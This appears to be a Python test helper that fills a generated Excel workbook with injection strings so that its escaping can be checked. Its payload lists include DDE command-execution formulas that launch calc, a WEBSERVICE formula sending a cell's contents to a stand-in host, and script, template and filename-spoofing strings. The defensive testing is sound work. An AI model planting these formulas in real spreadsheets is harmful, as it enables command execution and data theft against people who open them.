"""What attackers type into cells, and a workbook that has it in every column of text."""

from __future__ import annotations

import re
import tempfile
from collections.abc import Callable
from itertools import cycle, islice
from pathlib import Path

from tests.books import Hand
from tracker.api.config import Config
from tracker.api.run import new
from tracker.opc.package import Package
from tracker.schema.model import Lookup
from tracker.xlsx import Workbook, markup
from tracker.xlsx.refs import quoted, ref

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example","y")', '=WEBSERVICE("http://x.example/?"&A1)', '"=1+1"',
    "＝１＋１",
)  # fmt: skip
"""Eleven: the starts that OWASP's page on CSV injection names, the payloads of its kind."""
TAGS = (
    "{{7*7}}", "{% for %}", "<script>alert(1)</script>", "</text><b>", "_x0041_", "&#61;",
    'DDE("cmd";"/C calc";"x")', "http://x.example", "javascript:alert(1)", "]]>", "{day}{n}",
    "\x1b[31mred", "\u202etxt.exe",
)  # fmt: skip
TYPED = FORMULAS + TAGS
Put = Callable[[str, str, str], None]
"""Types a text into a cell of a sheet, by their names."""
REP = "=1+1{{7*7}}<b>"
PACKS = ("kam", "precall", "detailing", "needs", "cases", "market", "care")
SHEETS = {"customers": "=1+1 {{7-7}} '<b>", "visits": '@SUM(1+1)"&#61;', "issues": "_x0041_%{}"}
"""New names of sheets: what Excel allows of the strings in a tab."""


def sample(lang: str) -> bytes:
    """A small sample workbook with the columns of all packs."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "new.xlsx"
        new(path, lang=lang, sample=True, size=0.05, packs=PACKS, config=Config())
        return path.read_bytes()


def hostile(lang: str) -> tuple[bytes, dict[tuple[str, str], str]]:
    """A workbook with every string in every column of text, and what was typed by cell."""
    hand, typed = Hand(sample(lang)), dict[tuple[str, str], str]()

    def put(sheet: str, cell: str, text: str) -> None:
        hand.typed.sheet(sheet).set(cell, text)
        typed[sheet, cell] = text

    for name, place in hand.book.session.places.items():
        first = place.header_row + 1
        for i, column in enumerate(place.module.columns):
            if column.type in ("text", "ref", "multi") and column.owner != "computed":
                start = i % len(TYPED)  # no two columns alike: rows of one string are rare
                for row, text in enumerate(islice(cycle(TYPED), start, start + len(TYPED)), first):
                    put(hand.sheet(name), ref(row, place.columns[column.name]), text)
        _extra_columns(hand, name, put)
    for lookup in hand.book.schema.lookups.values():
        _support(lookup, lang, put)
    return _renamed(hand.done(), {hand.sheet(m): n for m, n in SHEETS.items()}, typed)


def _extra_columns(hand: Hand, module: str, put: Put) -> None:
    """Columns of the person's own at the edge of a table, strings for headers and below."""
    place = hand.book.session.places[module]
    sheet = hand.typed.sheet(place.sheet.name)
    (table,) = sheet.tables
    for text in TYPED:
        column = sheet.add_column(table.name, text)
        put(place.sheet.name, ref(place.header_row + 1, column), text)


def _support(lookup: Lookup, lang: str, put: Put) -> None:
    """Strings as values of settings, as rows of lists and of the dictionary."""
    name = lookup.sheet[lang]
    if lookup.kind == "settings":
        row = next(r for r, s in enumerate(lookup.rows, 2) if s.key == "rep_name")
        put(name, f"B{row}", REP)
        for r, text in enumerate(TYPED, len(lookup.rows) + 3):
            put(name, f"A{r}", text)
            put(name, f"B{r}", text)
        return
    for c, column in enumerate(lookup.columns, 1):
        for r, text in enumerate(TYPED, 300):
            if column.type != "num":
                put(name, ref(r, c), text)


def _renamed(
    data: bytes, names: dict[str, str], typed: dict[tuple[str, str], str]
) -> tuple[bytes, dict[tuple[str, str], str]]:
    """The workbook with sheets renamed as Excel does it: their tabs, and what names them."""
    package = Package(data)
    xml = package.read("xl/workbook.xml")
    for old, new_name in names.items():
        tab = b'name="%b"' % markup.escape_attribute(old)
        assert xml.count(tab) == 1
        xml = xml.replace(tab, b'name="%b"' % markup.escape_attribute(new_name))
        named = re.escape(markup.escape_text(old))
        new_text = markup.escape_text(quoted(new_name)) + b"!"
        xml = re.sub(rb"'?%b'?!" % named, lambda _, new_text=new_text: new_text, xml)  # type: ignore[misc]  # mypy cannot infer it
    package.write("xl/workbook.xml", xml)
    renamed = package.to_bytes()
    assert {names[n] for n in names} <= set(Workbook(renamed).sheet_names)
    return renamed, {(names.get(s, s), c): t for (s, c), t in typed.items()}
